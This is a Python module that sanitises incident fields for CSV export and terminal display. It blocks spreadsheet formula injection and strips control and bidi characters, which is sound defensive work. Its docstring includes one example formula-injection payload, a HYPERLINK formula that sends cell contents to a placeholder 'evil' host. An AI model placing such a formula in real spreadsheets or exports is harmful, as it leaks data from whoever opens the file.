"""Text that is safe for the next tool: spreadsheets (CSV) and terminals.

Incident titles, descriptions and names come from anyone who can log an
incident, and from other systems (RT, alert intake). Written raw, they can
attack whoever reads the export:

- **Formula injection** (OWASP "CSV Injection"): a cell starting with ``=``,
  ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
  spreadsheet programs (``=HYPERLINK("https://evil/?"&A1, "click")``).
  :func:`csv_cell` prefixes such text with ``'``, which spreadsheets show as
  text and do not evaluate.
- **Terminal escapes**: ESC sequences can clear the screen, rewrite what was
  printed, set the window title or, on some terminals, paste into the prompt;
  bidi controls reorder what is shown. :func:`terminal_safe` drops control
  and bidi characters (keeping newlines and tabs).
"""

from __future__ import annotations

import unicodedata

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_KEPT_CONTROLS = frozenset("\n\t")


def _unsafe(char: str) -> bool:
    if char in _KEPT_CONTROLS:
        return False
    return unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp", "Cs")


def terminal_safe(text: str) -> str:
    """``text`` without control, bidi and other format characters (newline and tab kept)."""
    if text.isprintable():
        return text
    return "".join(char for char in text if not _unsafe(char))


def csv_cell(value: object) -> object:
    """A value as a CSV cell: None → "", text neutralised against formulas and escapes.

    Numbers and booleans are left as they are (a negative number is data, not
    a formula); text starting with ``= + - @ \\t \\r`` gets a leading ``'``.
    """
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS):
        value = "'" + value
    return terminal_safe(value)
